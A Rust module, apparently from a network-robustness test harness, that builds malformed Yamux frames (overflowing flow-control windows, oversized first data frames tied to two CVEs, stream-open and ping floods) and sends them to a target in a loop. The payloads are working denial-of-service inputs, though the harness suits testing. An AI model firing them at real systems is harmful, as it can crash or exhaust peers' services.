//! Yamux by hand: windows that overflow, first frames above the window, bodies of 4 GiB, and what is no Yamux at all.
//!
//! CVE-2026-31814 is the window that overflows, CVE-2026-32314 the first data frame of 262,145 bytes.

use super::{Stage, refused, wire::secured};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

const DATA: u8 = 0;
const WINDOW: u8 = 1;
const PING: u8 = 2;
const SYN: u16 = 1;
/// The window of a new stream.
const CREDIT: usize = 256 * 1024;

fn frame(kind: u8, flags: u16, stream: u32, length: u32) -> Vec<u8> {
    let mut bytes = vec![0, kind];
    bytes.extend(flags.to_be_bytes());
    bytes.extend(stream.to_be_bytes());
    bytes.extend(length.to_be_bytes());
    bytes
}

fn poisons() -> Vec<Vec<u8>> {
    let window = |credit| frame(WINDOW, 0, 1, credit);
    vec![
        [frame(WINDOW, SYN, 1, 0), window(u32::MAX), window(u32::MAX), window(u32::MAX)].concat(),
        frame(WINDOW, SYN, 1, u32::MAX),
        [frame(WINDOW, SYN, 1, u32::MAX - CREDIT as u32), window(1), window(u32::MAX)].concat(),
        [frame(DATA, SYN, 1, CREDIT as u32 + 1), vec![0; CREDIT + 1]].concat(),
        [frame(WINDOW, SYN, 1, 0), frame(DATA, 0, 1, CREDIT as u32 + 1), vec![0; CREDIT + 1]].concat(),
        frame(DATA, SYN, 1, u32::MAX),
        [frame(DATA, SYN, 1, 1 << 20), vec![0; 1_000]].concat(),
        [frame(WINDOW, SYN, 2, 0), frame(WINDOW, SYN, 1, 0), frame(WINDOW, SYN, 1, 0)].concat(),
        (0..5_000).flat_map(|n| frame(WINDOW, SYN, 2 * n + 1, 0)).collect(),
        (0..5_000).flat_map(|n| frame(PING, SYN, 0, n)).collect(),
        frame(PING, 2, 0, 77),
        vec![0xff; 64],
        frame(9, 0, 1, 0),
    ]
}

/// Every one of them on a connection of its own, a member's and so let in.
///
/// # Errors
/// When the attack cannot even begin.
pub async fn overflows(stage: &Stage) -> anyhow::Result<()> {
    let poisons = poisons();
    for poison in poisons.iter().cycle() {
        if !stage.goes_on().await {
            break;
        }
        let made = secured(&stage.actor.secret, stage.target.tcp, stage.target.from()).await;
        let Some(mut io) = refused(made) else { continue };
        refused(io.write_all(poison).await.map_err(Into::into));
        refused(io.flush().await.map_err(Into::into));
        let rest = async { while matches!(io.read(&mut [0; 4_096]).await, Ok(1..)) {} };
        let _ = tokio::time::timeout(std::time::Duration::from_millis(50), rest).await;
    }
    Ok(())
}
